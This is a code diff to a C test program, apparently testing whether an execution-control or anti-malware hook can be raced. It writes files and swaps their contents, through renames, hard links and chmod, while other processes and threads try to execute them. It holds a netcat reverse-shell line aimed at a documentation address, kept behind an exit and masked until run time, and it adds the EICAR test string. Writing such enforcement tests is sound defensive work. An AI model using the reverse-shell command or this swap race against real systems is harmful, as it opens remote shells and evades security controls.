@@ -9,6 +9,7 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <pthread.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -21,6 +22,7 @@
 #include <unistd.h>
 
 #define RUNNERS 3
+#define WAYS 7
 #define MAX_PROGRAMS 16
 #define RAN_BAD 99
 #define DENIED 77
@@ -28,6 +30,8 @@
 
 /* 192.0.2.1 is nobody's (RFC 5737), and the line is behind the exit. The rule reverse_shell_netcat_exec knows it. */
 static char script[] = "#!/bin/sh\nexit 99\nn? 192.0.2.1 4444 -e /bin/sh\n";
+/* The test file of EICAR, which is no program: where it was allowed, the answer is ENOEXEC. */
+static char eicar[] = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI?AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
 static const char mark[] = "ringwall-mark-01";
 static char good[1u << 18], bad[1u << 18];
 static size_t image_length;
@@ -78,8 +82,25 @@ static void run_when_possible(const char *path) {
   while (now_ns() < until) {
     execv(path, arguments);
     if (errno == EPERM) _exit(DENIED);
+    if (errno == ENOEXEC) _exit(RAN_BAD);
     if (errno != ENOENT && errno != ETXTBSY && errno != EACCES) _exit(GAVE_UP);
   }
+  _exit(GAVE_UP);
+}
+
+static void *run_in_thread(void *path) {
+  run_when_possible(path);
+  return NULL;
+}
+
+/* The last one starts it from a thread, which has another number than its process. */
+static pid_t start_runner(const char *path, bool in_thread) {
+  pid_t child = fork();
+  if (child != 0) return child;
+  pthread_t thread;
+  if (in_thread && pthread_create(&thread, NULL, run_in_thread, (void *)path) == 0)
+    for (;;) pause();
+  run_when_possible(path);
   _exit(GAVE_UP);
 }
 
@@ -110,7 +131,7 @@ static void write_mapped(const char *path) {
   close(file);
 }
 
-/* Four ways in which bad bytes can come under a name. */
+/* Ways in which bad bytes can come under a name. */
 static void write_bad(const char *path, int way) {
   char other[600];
   if (way == 0) write_file(path, script, sizeof script - 1, O_CREAT | O_WRONLY | O_TRUNC);
@@ -120,6 +141,19 @@ static void write_bad(const char *path, int way) {
     snprintf(other, sizeof other, "%s.new", path);
     write_file(other, bad, image_length, O_CREAT | O_WRONLY);
     rename(other, path);
+  }
+  if (way == 4) write_file(path, eicar, sizeof eicar - 1, O_CREAT | O_WRONLY | O_TRUNC);
+  if (way == 5) {
+    snprintf(other, sizeof other, "%s.other", path);
+    write_file(other, bad, image_length, O_CREAT | O_WRONLY);
+    if (link(other, path) != 0) exit(1);
+    unlink(other);
+  }
+  if (way == 6) {
+    int file = open(path, O_CREAT | O_WRONLY, 0600);
+    if (file < 0 || write(file, bad, image_length) < 0) exit(1);
+    close(file);
+    chmod(path, 0755);
   }
 }
 
@@ -144,7 +178,7 @@ static int run_once(const char *path) {
   pid_t child = vfork();
   if (child == 0) {
     execv(path, arguments);
-    _exit(DENIED);
+    _exit(errno == ENOEXEC ? RAN_BAD : DENIED);
   }
   int status = 0;
   waitpid(child, &status, 0);
@@ -154,21 +188,19 @@ static int run_once(const char *path) {
 static int race(const char *directory, int tries) {
   /* Only now: this program itself is not bad. */
   *strchr(script, '?') = 'c';
+  *strchr(eicar, '?') = 'C';
   long ran = 0, denied = 0, good_ran = 0, gave_up = 0, first_ran = 0;
   for (int attempt = 0; attempt < tries; attempt += 1) {
     char path[512];
-    int way = attempt % 4;
+    int way = attempt % WAYS;
     snprintf(path, sizeof path, "%s/try-%d", directory, attempt);
-    if (way != 0) {
+    if (way >= 1 && way <= 3) {
       write_file(path, good, image_length, O_CREAT | O_WRONLY);
       /* Known from here on. */
       first_ran += run_once(path) == 0;
     }
     pid_t runners[RUNNERS];
-    for (int index = 0; index < RUNNERS; index += 1) {
-      runners[index] = fork();
-      if (runners[index] == 0) run_when_possible(path);
-    }
+    for (int index = 0; index < RUNNERS; index += 1) runners[index] = start_runner(path, index == RUNNERS - 1);
     write_bad(path, way);
     for (int index = 0; index < RUNNERS; index += 1) {
       int status = 0;
